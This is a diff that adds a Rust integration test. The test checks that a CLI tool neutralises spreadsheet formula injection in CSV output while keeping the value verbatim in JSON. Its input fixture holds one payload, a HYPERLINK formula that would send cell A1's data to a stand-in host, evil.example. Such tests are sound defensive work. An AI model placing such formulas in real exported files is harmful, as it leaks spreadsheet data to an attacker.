@@ -279,3 +279,33 @@ async fn issue_11_a_silent_postgres_server_is_a_bounded_error() {
     assert!(out.stdout.is_empty());
     held.abort();
 }
+
+/// Item 13: a cell that would start a formula is neutralised in CSV, verbatim in JSON.
+#[tokio::test]
+async fn issue_11_csv_cells_cannot_inject_formulas() {
+    let net = Net::start().await;
+    let list = net.path("list.csv");
+    write(
+        &list,
+        "url,category_code\nok.test,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"\n",
+    );
+    let report = net.path("out.csv");
+    let mut args = net.args();
+    args.extend(["-i".into(), list.display().to_string()]);
+    args.extend(["-o".into(), report.display().to_string()]);
+    let out = run(&args).await;
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let mut rdr = csv::Reader::from_path(&report).unwrap();
+    let headers = rdr.headers().unwrap().clone();
+    let col = headers.iter().position(|h| h == "category").unwrap();
+    let row = rdr.records().next().unwrap().unwrap();
+    assert_eq!(&row[col], "'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")");
+
+    let mut args = net.args();
+    args.extend(["-i".into(), list.display().to_string()]);
+    let out = run(&args).await;
+    assert_eq!(
+        jsonl(&out.stdout)[0]["category"],
+        "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
+    );
+}
